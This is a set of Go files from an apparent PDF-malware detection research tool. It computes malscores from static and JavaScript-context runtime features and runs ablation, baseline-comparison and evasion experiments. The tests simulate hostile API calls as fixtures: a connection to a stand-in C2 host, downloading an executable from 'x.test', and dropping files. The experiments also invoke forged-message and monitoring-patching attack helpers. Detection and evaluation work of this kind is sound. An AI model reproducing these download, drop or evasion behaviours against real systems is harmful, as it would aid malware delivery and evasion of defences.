	alerts := h.det.Alerts()
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d (memsearch 9 + ratio 1 = 10)", len(alerts))
	}
	if alerts[0].Features[FMemSearch] != 1 {
		t.Errorf("features = %v", alerts[0].Features)
	}
}

func TestMemoryExactlyAtThreshold(t *testing.T) {
	h := newHarness(t, [5]int{1, 0, 0, 0, 0})
	h.enter(50)
	h.api("ctx.mem", 150) // delta exactly 100 MB
	st, _ := h.det.DocStateFor(h.instrKey)
	if st.Features[FMemory] != 1 {
		t.Error("delta == threshold should set F8")
	}
	h2 := newHarness(t, [5]int{1, 0, 0, 0, 0})
	h2.enter(50)
	h2.api("ctx.mem", 149.9)
	st, _ = h2.det.DocStateFor(h2.instrKey)
	if st.Features[FMemory] != 0 {
		t.Error("delta below threshold set F8")
	}
}

func TestExitClearsActiveContext(t *testing.T) {
	h := newHarness(t, [5]int{})
	h.enter(50)
	h.api("ctx.mem", 300) // arm
	h.exit(300)
	// After exit, a drop is out-of-JS and not a drop feature.
	h.api("NtCreateFile", 300, `C:\cache\render.tmp`)
	st, _ := h.det.DocStateFor(h.instrKey)
	if st.Features[FDropping] != 0 {
		t.Error("out-of-context drop counted as in-JS dropping")
	}
}

func TestSecondEnterReusesState(t *testing.T) {
	// A document with several scripts enters and exits repeatedly; the
	// malscore accumulates across contexts within one reader session.
	h := newHarness(t, [5]int{})
	h.enter(50)
	h.api("connect", 52, "c2.test:443")
	h.exit(52)
	h.enter(52)
	h.api("NtCreateFile", 53, `C:\tmp\m.exe`)
	h.exit(53)
	alerts := h.det.Alerts()
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d (network 9 + drop 9 = 18 across contexts)", len(alerts))
	}
	if alerts[0].Features[FNetwork] != 1 || alerts[0].Features[FDropping] != 1 {
		t.Errorf("features = %v", alerts[0].Features)
	}
}

func TestDownloadsListOnlyExecutables(t *testing.T) {
	h := newHarness(t, [5]int{})
	h.enter(50)
	h.api("NtCreateFile", 52, `C:\tmp\notes.txt`)
	if h.det.Downloads().Len() != 0 {
		t.Error("non-executable tracked in downloads list")
	}
	h.api("URLDownloadToFileA", 52, "http://x.test/a.exe", `C:\tmp\a.exe`)
	if h.det.Downloads().Len() != 1 {
		t.Error("executable download not tracked")
	}
}
