package detect

import (
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"sync"
)

// DownloadEntry records one executable downloaded in JS context. The list
// is persistent (unlike the volatile malscore) so cooperating multi-PDF
// attacks spanning reader sessions are still linked (§III-E).
type DownloadEntry struct {
	Path  string `json:"path"`
	DocID string `json:"doc_id"`
	Key   string `json:"key"`
}

// DownloadList is the persistent list of executables downloaded in JS
// context.
type DownloadList struct {
	mu      sync.Mutex
	path    string // backing file ("" = memory only)
	entries map[string]DownloadEntry
}

// NewDownloadList opens (or creates) the list at path; empty path keeps it
// in memory.
func NewDownloadList(path string) (*DownloadList, error) {
	dl := &DownloadList{path: path, entries: make(map[string]DownloadEntry)}
	if path == "" {
		return dl, nil
	}
	data, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return dl, nil
	}
	if err != nil {
		return nil, fmt.Errorf("download list read: %w", err)
	}
	var entries []DownloadEntry
	if err := json.Unmarshal(data, &entries); err != nil {
		return nil, fmt.Errorf("download list decode: %w", err)
	}
	for _, e := range entries {
		dl.entries[normExe(e.Path)] = e
	}
	return dl, nil
}

func normExe(p string) string {
	return strings.ToLower(strings.ReplaceAll(p, "/", "\\"))
}

// Add records a downloaded executable and persists the list.
func (dl *DownloadList) Add(e DownloadEntry) error {
	dl.mu.Lock()
	dl.entries[normExe(e.Path)] = e
	err := dl.saveLocked()
	dl.mu.Unlock()
	return err
}

// Lookup finds the entry for an executable path.
func (dl *DownloadList) Lookup(path string) (DownloadEntry, bool) {
	dl.mu.Lock()
	defer dl.mu.Unlock()
	e, ok := dl.entries[normExe(path)]
	return e, ok
}

// Len returns the list size.
func (dl *DownloadList) Len() int {
	dl.mu.Lock()
	defer dl.mu.Unlock()
	return len(dl.entries)
}

func (dl *DownloadList) saveLocked() error {
	if dl.path == "" {
		return nil
	}
	entries := make([]DownloadEntry, 0, len(dl.entries))
	for _, e := range dl.entries {
		entries = append(entries, e)
	}
	data, err := json.MarshalIndent(entries, "", "  ")
	if err != nil {
		return fmt.Errorf("download list encode: %w", err)
	}
	if err := os.WriteFile(dl.path, data, 0o600); err != nil {
		return fmt.Errorf("download list write: %w", err)
	}
	return nil
}
