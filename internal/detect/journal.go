package detect

import (
	"pdfshield/internal/hook"
	"pdfshield/internal/journal"
	"pdfshield/internal/soapsrv"
)

// The detector implements journal.Sink: Notify, Event and ForgetDoc are
// the same methods the live SOAP and hook servers deliver into, so a
// recorded journal replays through an identical code path.
var _ journal.Sink = (*Detector)(nil)

// Every journal* helper below runs while d.mu is held, which is the
// property replay determinism rests on: the journal's append order equals
// the state machine's processing order. All helpers are no-ops without a
// configured journal (the payload allocation is the only cost worth
// guarding; Writer.Append itself is nil-safe).

// journalCtx records a validated Javascript-context transition.
func (d *Detector) journalCtx(n soapsrv.Notify, st *DocState, mem float64) {
	if d.cfg.Journal == nil {
		return
	}
	d.cfg.Journal.Append(journal.Event{
		T:     journal.TypeCtx,
		DocID: st.DocID,
		Key:   st.InstrKey,
		PID:   n.PID,
		Ctx:   &journal.Ctx{Event: n.Event, WireKey: n.Key, Seq: n.Seq, MemMB: mem},
	})
}

// journalFake records a notification that failed protection-key
// validation; st is the blamed document (nil when unattributable).
func (d *Detector) journalFake(n soapsrv.Notify, st *DocState, cause error) {
	if d.cfg.Journal == nil {
		return
	}
	e := journal.Event{
		T:     journal.TypeFakeMessage,
		PID:   n.PID,
		Cause: cause.Error(),
		Ctx:   &journal.Ctx{Event: n.Event, WireKey: n.Key, Seq: n.Seq},
	}
	if st != nil {
		e.DocID, e.Key = st.DocID, st.InstrKey
	}
	d.cfg.Journal.Append(e)
}

// journalHook records one hooked API call with the decision returned.
// Feature and confinement events the call triggered precede it in the
// journal (the decision only exists once handling completes).
func (d *Detector) journalHook(ev hook.Event, dec hook.Decision, st *DocState) {
	if d.cfg.Journal == nil {
		return
	}
	e := journal.Event{
		T:   journal.TypeHook,
		PID: ev.PID,
		Hook: &journal.Hook{
			API:      ev.API,
			Args:     ev.Args,
			MemMB:    ev.MemMB,
			Seq:      ev.Seq,
			Behavior: string(ev.Behavior()),
			Action:   string(dec.Action),
			Note:     dec.Note,
		},
	}
	if st != nil {
		e.DocID, e.Key = st.DocID, st.InstrKey
	}
	d.cfg.Journal.Append(e)
}

// journalFeature records a feature's first trigger on a document.
func (d *Detector) journalFeature(st *DocState, feature int, op string) {
	if d.cfg.Journal == nil {
		return
	}
	d.cfg.Journal.Append(journal.Event{
		T:       journal.TypeFeature,
		DocID:   st.DocID,
		Key:     st.InstrKey,
		PID:     st.PID,
		Feature: &journal.Feature{Index: feature, Name: FeatureNames[feature], Op: op},
	})
}

// journalConfine records one Table III confinement action.
func (d *Detector) journalConfine(st *DocState, action, target string, pid int) {
	if d.cfg.Journal == nil {
		return
	}
	e := journal.Event{
		T:       journal.TypeConfine,
		Confine: &journal.Confine{Action: action, Target: target, PID: pid},
	}
	if st != nil {
		e.DocID, e.Key = st.DocID, st.InstrKey
	}
	d.cfg.Journal.Append(e)
}

// journalAlert records a raised alert with its per-feature malscore
// breakdown (st is nil for unattributable fake-message alerts).
func (d *Detector) journalAlert(st *DocState, a Alert) {
	if d.cfg.Journal == nil {
		return
	}
	contrib := a.Features.Contributions(d.cfg.W1, d.cfg.W2)
	breakdown := make(map[string]int)
	for i, c := range contrib {
		if c != 0 {
			breakdown[FeatureNames[i]] = c
		}
	}
	pid := 0
	if st != nil {
		pid = st.PID
	}
	d.cfg.Journal.Append(journal.Event{
		T:     journal.TypeAlert,
		DocID: a.DocID,
		Key:   a.InstrKey,
		PID:   pid,
		Alert: &journal.Alert{
			Malscore:   a.Malscore,
			Features:   a.Features.Positive(),
			Breakdown:  breakdown,
			Reason:     a.Reason,
			Cause:      a.Cause,
			Isolated:   a.IsolatedFiles,
			Terminated: a.TerminatedPIDs,
		},
	})
}

// journalForget records retirement of a document's volatile state.
func (d *Detector) journalForget(instrKey string) {
	if d.cfg.Journal == nil {
		return
	}
	d.cfg.Journal.Append(journal.Event{T: journal.TypeForget, Key: instrKey})
}
