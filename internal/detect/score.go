// Package detect implements the back-end runtime detector of the system: a
// stand-alone process with a tiny SOAP server (context notifications from
// instrumented documents) and a TCP hook endpoint (captured API calls from
// the reader's hook DLL). It maintains a per-document malscore following
// Equation 1 of the paper and executes the confinement rules of Table III.
package detect

import (
	"fmt"
	"strings"
)

// Feature indices into the 13-feature vector, using the paper's canonical
// numbering (Table VII plus the Table II behaviour order): F1-F5 static,
// F6-F7 out-of-JS-context runtime, F8-F13 JS-context runtime.
const (
	FRatio          = 0  // F1 JS-chain object ratio >= 0.2
	FHeaderObf      = 1  // F2 header obfuscation
	FHexCode        = 2  // F3 hex code in keyword
	FEmptyObjects   = 3  // F4 empty objects >= 1
	FEncodingLevels = 4  // F5 encoding level >= 2
	FOutJSProc      = 5  // F6 out-JS process creation
	FOutJSInject    = 6  // F7 out-JS DLL injection
	FMemory         = 7  // F8 JS-context memory consumption >= 100 MB
	FNetwork        = 8  // F9 JS-context network access
	FMemSearch      = 9  // F10 JS-context mapped memory search
	FDropping       = 10 // F11 JS-context malware dropping
	FProcCreate     = 11 // F12 JS-context process creation
	FDLLInject      = 12 // F13 JS-context DLL injection
	NumFeatures     = 13
)

// Default parameters from Table VII.
const (
	DefaultW1        = 1
	DefaultW2        = 9
	DefaultThreshold = 10
	// MemoryThresholdMB is the F8 normalization cutoff.
	MemoryThresholdMB = 100.0
)

// FeatureNames maps indices to short names for reports.
var FeatureNames = [NumFeatures]string{
	"F1:js-chain-ratio", "F2:header-obfuscation", "F3:hex-keyword",
	"F4:empty-objects", "F5:encoding-levels",
	"F6:outjs-process-creation", "F7:outjs-dll-injection",
	"F8:injs-memory", "F9:injs-network", "F10:injs-mem-search",
	"F11:injs-malware-drop", "F12:injs-process-creation", "F13:injs-dll-injection",
}

// Vector is a normalized 13-feature vector.
type Vector [NumFeatures]int

// Malscore computes Equation 1: w1*sum(F1..F7) + w2*sum(F8..F13).
func (v Vector) Malscore(w1, w2 int) int {
	sumStatic := 0
	for i := 0; i <= FOutJSInject; i++ {
		sumStatic += v[i]
	}
	sumInJS := 0
	for i := FMemory; i <= FDLLInject; i++ {
		sumInJS += v[i]
	}
	return w1*sumStatic + w2*sumInJS
}

// Contributions returns each feature's weighted contribution to
// Equation 1's malscore (w1 for F1–F7, w2 for F8–F13; zero for unset
// features). Summing the result reproduces Malscore(w1, w2) — the
// per-feature breakdown journaled with every alert.
func (v Vector) Contributions(w1, w2 int) [NumFeatures]int {
	var out [NumFeatures]int
	for i, b := range v {
		if b == 0 {
			continue
		}
		if i <= FOutJSInject {
			out[i] = w1 * b
		} else {
			out[i] = w2 * b
		}
	}
	return out
}

// HasInJS reports whether any JS-context feature is set.
func (v Vector) HasInJS() bool {
	for i := FMemory; i <= FDLLInject; i++ {
		if v[i] != 0 {
			return true
		}
	}
	return false
}

// Positive lists the names of set features.
func (v Vector) Positive() []string {
	var out []string
	for i, b := range v {
		if b != 0 {
			out = append(out, FeatureNames[i])
		}
	}
	return out
}

func (v Vector) String() string {
	return fmt.Sprintf("[%s]", strings.Join(v.Positive(), " "))
}
