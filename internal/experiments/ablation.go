package experiments

import (
	"fmt"

	"pdfshield/internal/corpus"
	"pdfshield/internal/detect"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/reader"
)

// AblationFeatures isolates the design choices DESIGN.md calls out: how
// much of the detection comes from static features alone, runtime features
// alone, and the paper's hybrid weighting. One corpus pass records every
// document's final 13-feature vector; the three scoring rules are then
// applied to the same vectors.
func AblationFeatures(cfg Config) Result {
	g := corpus.NewGenerator(cfg.seed() + 20)
	nBenign := cfg.scaled(400, 30)
	nMal := cfg.scaled(400, 30)

	type labelled struct {
		vec detect.Vector
		mal bool
		// fakeMsg marks zero-tolerance alerts that bypass the score.
		alerted bool
	}
	var all []labelled

	collect := func(samples []corpus.Sample, version float64, mal bool) {
		sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: version, Seed: cfg.seed() + 21})
		if err != nil {
			return
		}
		defer func() { _ = sys.Close() }()
		for _, v := range batchVerdicts(sys, samples, cfg.workers()) {
			if v.NoJavaScript {
				continue
			}
			all = append(all, labelled{vec: v.FeatureVector, mal: mal, alerted: v.Malicious})
		}
	}
	collect(g.BenignWithJS(nBenign), 9.0, false)
	collect(g.MaliciousBatch(nMal), 8.0, true)

	type rule struct {
		name  string
		score func(v detect.Vector) bool
	}
	rules := []rule{
		{"static only (>=2 of F1..F5)", func(v detect.Vector) bool {
			sum := 0
			for i := detect.FRatio; i <= detect.FEncodingLevels; i++ {
				sum += v[i]
			}
			return sum >= 2
		}},
		{"static only (>=1 of F1..F5)", func(v detect.Vector) bool {
			for i := detect.FRatio; i <= detect.FEncodingLevels; i++ {
				if v[i] != 0 {
					return true
				}
			}
			return false
		}},
		{"runtime only (w2*inJS >= 10)", func(v detect.Vector) bool {
			sum := 0
			for i := detect.FMemory; i <= detect.FDLLInject; i++ {
				sum += v[i]
			}
			return detect.DefaultW2*sum >= detect.DefaultThreshold
		}},
		{"hybrid (paper Eq. 1)", func(v detect.Vector) bool {
			return v.HasInJS() && v.Malscore(detect.DefaultW1, detect.DefaultW2) >= detect.DefaultThreshold
		}},
	}

	table := Table{
		ID:      "Ablation A",
		Title:   "Feature-set ablation on identical runs",
		Headers: []string{"Scoring rule", "FP rate", "TP rate"},
	}
	for _, r := range rules {
		fp, tp, nb, nm := 0, 0, 0, 0
		for _, l := range all {
			got := r.score(l.vec)
			if l.mal {
				nm++
				if got {
					tp++
				}
			} else {
				nb++
				if got {
					fp++
				}
			}
		}
		table.Rows = append(table.Rows, []string{
			r.name,
			fmt.Sprintf("%.1f%%", pct(fp, nb)),
			fmt.Sprintf("%.1f%%", pct(tp, nm)),
		})
	}
	table.Notes = append(table.Notes,
		"static-only rules trade false positives against misses and are mimicry-evadable;",
		"runtime-only misses single-behaviour samples (e.g. spray-then-crash);",
		"the hybrid weighting reaches the paper's 0 FP / ~97% TP operating point",
	)
	return Result{Tables: []Table{table}}
}

// AblationContextMemory contrasts the context-aware memory feature (F8,
// JS-context delta) with the context-free alternative (absolute process
// memory threshold) on identical workloads — quantifying Figures 7 and 8's
// qualitative argument.
func AblationContextMemory(cfg Config) Result {
	g := corpus.NewGenerator(cfg.seed() + 22)
	nMal := cfg.scaled(200, 20)
	const copies = 8 // benign multi-open session

	// Context-free readings: max absolute process memory.
	// Context-aware readings: JS-context delta per document.
	type reading struct {
		contextFree  float64
		contextAware float64
		mal          bool
	}
	var readings []reading

	// Benign: one reader with several medium documents open (the daily-use
	// scenario of Figure 8).
	proc := reader.NewProcess(reader.Config{ViewerVersion: 9.0})
	big := g.Sized(12<<20, false)
	var peak float64
	for i := 0; i < copies; i++ {
		res, err := proc.Open(fmt.Sprintf("benign-copy-%d", i), big.Raw, reader.OpenOptions{})
		if err != nil {
			break
		}
		peak = res.MemAfterMB
		readings = append(readings, reading{contextFree: peak, contextAware: res.JSHeapMB, mal: false})
	}
	proc.Close()

	// Malicious: one document per reader.
	for i := 0; i < nMal; i++ {
		s := g.Malicious()
		if s.Outcome == corpus.OutcomeNoop {
			continue
		}
		p := reader.NewProcess(reader.Config{ViewerVersion: 8.0})
		res, err := p.Open(s.ID, s.Raw, reader.OpenOptions{})
		p.Close()
		if err != nil {
			continue
		}
		readings = append(readings, reading{contextFree: res.MemAfterMB, contextAware: res.JSHeapMB, mal: true})
	}

	table := Table{
		ID:      "Ablation B",
		Title:   "Context-aware vs context-free memory feature (threshold sweep)",
		Headers: []string{"Threshold (MB)", "CF FP rate", "CF TP rate", "CA FP rate", "CA TP rate"},
	}
	for _, thr := range []float64{100, 200, 400, 800} {
		cfFP, cfTP, caFP, caTP, nb, nm := 0, 0, 0, 0, 0, 0
		for _, r := range readings {
			if r.mal {
				nm++
				if r.contextFree >= thr {
					cfTP++
				}
				if r.contextAware >= 100 {
					caTP++
				}
			} else {
				nb++
				if r.contextFree >= thr {
					cfFP++
				}
				if r.contextAware >= 100 {
					caFP++
				}
			}
		}
		table.Rows = append(table.Rows, []string{
			fmt.Sprintf("%.0f", thr),
			fmt.Sprintf("%.0f%%", pct(cfFP, nb)),
			fmt.Sprintf("%.0f%%", pct(cfTP, nm)),
			fmt.Sprintf("%.0f%%", pct(caFP, nb)),
			fmt.Sprintf("%.0f%%", pct(caTP, nm)),
		})
	}
	table.Notes = append(table.Notes,
		"CF = context-free absolute process memory; CA = context-aware JS-context delta (fixed 100 MB, the paper's F8)",
		"no CF threshold separates benign multi-open sessions from sprays; the CA column is threshold-independent",
	)
	return Result{Tables: []Table{table}}
}

func pct(n, total int) float64 {
	if total == 0 {
		return 0
	}
	return float64(n) / float64(total) * 100
}
