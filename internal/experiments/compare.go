package experiments

import (
	"context"
	"fmt"
	"runtime"

	"pdfshield/internal/attack"
	"pdfshield/internal/baseline"
	"pdfshield/internal/corpus"
	"pdfshield/internal/instrument"
	"pdfshield/internal/js"
	"pdfshield/internal/ml"
	"pdfshield/internal/pdf"
	"pdfshield/internal/pipeline"
)

// paperTableIX holds the FP/TP the paper reports for each method.
var paperTableIX = map[string][2]string{
	"ngram":      {"31%", "84%"},
	"pjscan":     {"16%", "85%"},
	"pdfrate":    {"2%", "99%"},
	"structpath": {"0.05%", "99%"},
	"mdscan":     {"N/A", "89%"},
	"wepawet":    {"N/A", "68%"},
}

// TableIX regenerates the comparison with existing methods: each baseline
// trains on one corpus split and evaluates on another; "Ours" comes from
// the Table VIII accuracy (pass the same cfg to keep corpora comparable).
// An extension section evaluates everything on structural-mimicry samples.
func TableIX(cfg Config, ours Accuracy) Result {
	g := corpus.NewGenerator(cfg.seed() + 99)
	nTrain := cfg.scaled(600, 60)
	nTest := cfg.scaled(400, 40)

	var trainB, trainM, testB, testM [][]byte
	for _, s := range g.BenignWithJS(nTrain) {
		trainB = append(trainB, s.Raw)
	}
	for _, s := range g.MaliciousBatch(nTrain) {
		trainM = append(trainM, s.Raw)
	}
	for _, s := range g.BenignWithJS(nTest) {
		testB = append(testB, s.Raw)
	}
	for _, s := range g.MaliciousBatch(nTest) {
		testM = append(testM, s.Raw)
	}

	nMimic := cfg.scaled(100, 12)
	mimics := make([][]byte, 0, nMimic)
	for i := 0; i < nMimic; i++ {
		mimics = append(mimics, attack.MimicrySample(cfg.seed()+int64(i)*17).Raw)
	}

	table := Table{
		ID:    "Table IX",
		Title: "Comparison With Existing Methods",
		Headers: []string{
			"Method", "Paper FP", "Paper TP", "Measured FP", "Measured TP", "TP under mimicry [8]",
		},
	}

	detectors := baseline.All(cfg.seed())
	for _, det := range detectors {
		if err := det.Train(trainB, trainM); err != nil {
			continue
		}
		var c ml.Confusion
		for _, raw := range testB {
			got, err := det.Classify(raw)
			if err == nil {
				c.Observe(got, false)
			}
		}
		for _, raw := range testM {
			got, err := det.Classify(raw)
			if err == nil {
				c.Observe(got, true)
			}
		}
		mimicCaught := 0
		for _, raw := range mimics {
			if got, err := det.Classify(raw); err == nil && got {
				mimicCaught++
			}
		}
		paper := paperTableIX[det.Name()]
		table.Rows = append(table.Rows, []string{
			det.Name(), paper[0], paper[1],
			fmt.Sprintf("%.1f%%", c.FPR()*100),
			fmt.Sprintf("%.1f%%", c.TPR()*100),
			fmt.Sprintf("%d/%d", mimicCaught, len(mimics)),
		})
	}

	// Ours: Table VIII accuracy plus the mimicry pass through the live
	// pipeline.
	oursMimic := 0
	sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 8.0, Seed: cfg.seed() + 4})
	if err == nil {
		docs := make([]pipeline.BatchDoc, len(mimics))
		for i, raw := range mimics {
			docs[i] = pipeline.BatchDoc{ID: fmt.Sprintf("mimic-%d", i), Raw: raw}
		}
		for _, v := range sys.ProcessBatchContext(context.Background(), docs, pipeline.BatchOptions{Workers: cfg.workers()}).Verdicts {
			if v != nil && v.Malicious {
				oursMimic++
			}
		}
		_ = sys.Close()
	}
	table.Rows = append(table.Rows, []string{
		"ours", "0", "97%",
		fmt.Sprintf("%.1f%%", ours.FPRate()*100),
		fmt.Sprintf("%.1f%%", ours.DetectionRate()*100),
		fmt.Sprintf("%d/%d", oursMimic, len(mimics)),
	})
	table.Notes = append(table.Notes,
		"mimicry column: structural mimics of Maiorca et al. [8]; runtime behaviour unchanged",
		"expected shape: structural methods strong on the standard corpus but falling to mimicry; ours unaffected",
	)
	return Result{Tables: []Table{table}}
}

// tableXSizes are the paper's six size classes.
var tableXSizes = []struct {
	label string
	bytes int
	mal   bool
}{
	{"2 KB", 2 << 10, true},
	{"9 KB", 9 << 10, true},
	{"24 KB", 24 << 10, true},
	{"325 KB", 325 << 10, false},
	{"7.0 MB", 7 << 20, false},
	{"19.7 MB", 19*(1<<20) + 700*(1<<10), false},
}

// TableX regenerates the static analysis & instrumentation timing table.
func TableX(cfg Config) Result {
	g := corpus.NewGenerator(cfg.seed() + 10)
	table := Table{
		ID:      "Table X",
		Title:   "Execution Time (seconds) of Static Analysis & Instrumentation",
		Headers: []string{"PDF Size", "Parse & Decompress", "Feature Extraction", "Instrumentation", "Total"},
	}
	for _, sz := range tableXSizes {
		sample := g.Sized(sz.bytes, sz.mal)
		reg := instrument.NewRegistry("tablex-detector-0001")
		ins := instrument.New(reg, instrument.Options{Seed: cfg.seed()})
		res, err := ins.InstrumentBytes(sample.ID, sample.Raw)
		if err != nil {
			continue
		}
		t := res.Timing
		table.Rows = append(table.Rows, []string{
			fmt.Sprintf("%s (actual %.1f KB)", sz.label, float64(len(sample.Raw))/1024),
			fmt.Sprintf("%.4f", t.ParseDecompress.Seconds()),
			fmt.Sprintf("%.4f", t.FeatureExtraction.Seconds()),
			fmt.Sprintf("%.4f", t.Instrumentation.Seconds()),
			fmt.Sprintf("%.4f", t.Total().Seconds()),
		})
	}
	table.Notes = append(table.Notes,
		"paper (2009-era laptop): 0.0444 s at 2 KB up to 5.4995 s at 19.7 MB; parse+decompress dominates at large sizes",
		"absolute numbers differ by hardware; the linear growth and phase dominance are the reproduced shape",
	)
	return Result{Tables: []Table{table}}
}

// TableXI regenerates the front-end memory overhead table.
func TableXI(cfg Config) Result {
	g := corpus.NewGenerator(cfg.seed() + 11)
	table := Table{
		ID:      "Table XI",
		Title:   "Memory Overhead of Static Analysis & Instrumentation",
		Headers: []string{"PDF Size", "# of PDF Objects", "Memory Consumption"},
	}
	for _, sz := range tableXSizes {
		sample := g.Sized(sz.bytes, sz.mal)

		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		doc, err := pdf.Parse(sample.Raw, pdf.ParseOptions{})
		if err != nil {
			continue
		}
		chains, err := pdf.ReconstructChains(doc)
		if err != nil {
			continue
		}
		_ = instrument.ExtractFeatures(doc, chains)
		runtime.ReadMemStats(&after)
		usedMB := float64(after.TotalAlloc-before.TotalAlloc) / (1 << 20)

		table.Rows = append(table.Rows, []string{
			fmt.Sprintf("%s (actual %.1f KB)", sz.label, float64(len(sample.Raw))/1024),
			itoa(doc.Len()),
			fmt.Sprintf("%.2f MB", usedMB),
		})
	}
	table.Notes = append(table.Notes,
		"paper (Python front-end): 5.26 MB at 2 KB up to 130.6 MB at 19.7 MB (counting Python objects)",
		"memory grows with document size; small documents pay a near-constant floor",
	)
	return Result{Tables: []Table{table}}
}

// SecurityAnalysis regenerates the §IV adversary evaluation as a table of
// attack outcomes.
func SecurityAnalysis(cfg Config) Result {
	table := Table{
		ID:      "§IV",
		Title:   "Security Analysis: Advanced Attacks vs. Countermeasures",
		Headers: []string{"Attack", "Outcome", "Defense That Held"},
	}

	// 1. Signature-based key search.
	reg := instrument.NewRegistry("secdetector0001")
	ins := instrument.New(reg, instrument.Options{Seed: cfg.seed() + 12})
	sample := buildSingleScriptDoc("var x=1;")
	res, err := ins.InstrumentBytes("sec-doc", sample)
	keySearchRow := []string{"mimicry: key search", "error", ""}
	if err == nil {
		monitored := extractMonitored(res.Output)
		candidates := attack.SignatureKeySearch(monitored)
		fixed := attack.FixedNameKeySearch(monitored)
		keySearchRow = []string{
			"mimicry: signature key search",
			fmt.Sprintf("defeated (%d indistinguishable candidates, %d fixed-name hits)", len(candidates), len(fixed)),
			"random keys, decoy monitoring code, randomized identifiers",
		}
	}
	table.Rows = append(table.Rows, keySearchRow)

	// 2. Fake message (zero tolerance) — end to end.
	fakeOutcome := "error"
	sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 8.0, Seed: cfg.seed() + 13})
	if err == nil {
		forged := attack.ForgedExitScript(sys.Detector.SOAPURL(),
			sys.Registry.DetectorID()+":deadbeefdeadbeefdeadbeef", "var y = 2;")
		v, perr := sys.ProcessDocumentContext(context.Background(), "forger", buildSingleScriptDoc(forged))
		if perr == nil && v.Malicious && v.Alert.Reason == "fake-message" {
			fakeOutcome = "detected immediately (alert reason: fake-message)"
		} else if perr == nil {
			fakeOutcome = fmt.Sprintf("NOT DETECTED (%+v)", v.Malicious)
		}
		_ = sys.Close()
	}
	table.Rows = append(table.Rows, []string{
		"mimicry: forged exit message", fakeOutcome, "zero tolerance to fake messages; active-document attribution",
	})

	// 3. Runtime patching.
	patchOutcome := "payload did not execute unmonitored"
	if err == nil && res != nil {
		monitored := extractMonitored(res.Output)
		patched := attack.PatchOutMonitoring(monitored)
		if runsPayload(patched) {
			patchOutcome = "ATTACK SUCCEEDED (payload ran without monitoring)"
		}
	}
	table.Rows = append(table.Rows, []string{
		"runtime patching of monitoring code", patchOutcome,
		"per-script encryption keyed on the enter acknowledgement",
	})

	// 4. Staged and delayed attacks (corpus families through the pipeline).
	for _, fam := range []string{"mal-staged", "mal-delayed", "mal-titlehidden"} {
		g := corpus.NewGenerator(cfg.seed() + 14)
		s, _ := g.MaliciousFamily(fam)
		outcome := "error"
		sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 8.0, Seed: cfg.seed() + 15})
		if err == nil {
			v, perr := sys.ProcessDocumentContext(context.Background(), s.ID, s.Raw)
			switch {
			case perr != nil:
				outcome = "error: " + perr.Error()
			case v.Malicious:
				outcome = "detected"
			default:
				outcome = "NOT DETECTED"
			}
			_ = sys.Close()
		}
		defense := "static rewriting of Table IV methods and timer parameters"
		if fam == "mal-titlehidden" {
			defense = "instrumentation is extraction-free; document context is live"
		}
		table.Rows = append(table.Rows, []string{"evasion family: " + fam, outcome, defense})
	}
	return Result{Tables: []Table{table}}
}

func buildSingleScriptDoc(script string) []byte {
	d := pdf.NewDocument()
	jsRef := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsRef})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	d.Trailer["Root"] = catalog
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		panic(err)
	}
	return raw
}

func extractMonitored(raw []byte) string {
	doc, err := pdf.Parse(raw, pdf.ParseOptions{})
	if err != nil {
		return ""
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		return ""
	}
	for _, c := range chains.Chains {
		if c.Triggered && c.Source != "" {
			return c.Source
		}
	}
	return ""
}

// runsPayload executes a (patched) script in a bare interpreter with a
// permissive SOAP stub and reports whether the original payload ("var x=1;"
// in the security-analysis document) executed.
func runsPayload(src string) bool {
	it := js.New()
	soap := js.NewHostObject("SOAP")
	soap.Set("request", js.ObjectValue(js.NewHostFunc("request", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		resp := js.NewObject()
		resp.Set("status", js.StringValue("ok"))
		return js.ObjectValue(resp), nil
	})))
	it.Global.Declare("SOAP", js.ObjectValue(soap))
	_, _ = it.Run(src)
	v, ok := it.Global.Lookup("x")
	return ok && v.Num() == 1
}
