package experiments

import (
	"fmt"
	"strings"
	"testing"
)

// tinyCfg keeps experiment tests fast; the cmd harness runs real scales.
var tinyCfg = Config{Scale: 0.01, Seed: 7}

func TestTableV(t *testing.T) {
	res := TableV(tinyCfg)
	if len(res.Tables) != 1 {
		t.Fatal("no table")
	}
	tab := res.Tables[0]
	if len(tab.Rows) != 3 {
		t.Fatalf("rows = %d", len(tab.Rows))
	}
	if !strings.Contains(tab.Render(), "Known Malicious") {
		t.Error("render missing category")
	}
}

func TestFigure6ShapeHolds(t *testing.T) {
	res := Figure6(tinyCfg)
	fig := res.Figures[0]
	if len(fig.Lines) != 2 {
		t.Fatal("want 2 CDF lines")
	}
	// The separation claim: malicious mostly >= 0.2, benign mostly < 0.2.
	notes := strings.Join(fig.Notes, "\n")
	if !strings.Contains(notes, "malicious with ratio >= 0.2") {
		t.Errorf("notes missing: %s", notes)
	}
	var malAt02, benAt02 float64
	for _, line := range fig.Lines {
		frac := cdfAt(line, 0.2)
		if line.Name == "malicious" {
			malAt02 = frac
		} else {
			benAt02 = frac
		}
	}
	// CDF at 0.2: benign should be high (most below), malicious low.
	if benAt02 < 0.6 {
		t.Errorf("benign CDF(0.2) = %.2f, want high", benAt02)
	}
	if malAt02 > 0.4 {
		t.Errorf("malicious CDF(0.2) = %.2f, want low", malAt02)
	}
}

func cdfAt(line Line, x float64) float64 {
	frac := 0.0
	for i := range line.X {
		if line.X[i] < x {
			frac = line.Y[i]
		}
	}
	return frac
}

func TestTableVI(t *testing.T) {
	res := TableVI(Config{Scale: 0.05, Seed: 7})
	tab := res.Tables[0]
	if len(tab.Rows) != 4 {
		t.Fatalf("rows = %d", len(tab.Rows))
	}
	// Header obfuscation: most samples unobfuscated (column 0 > column 1).
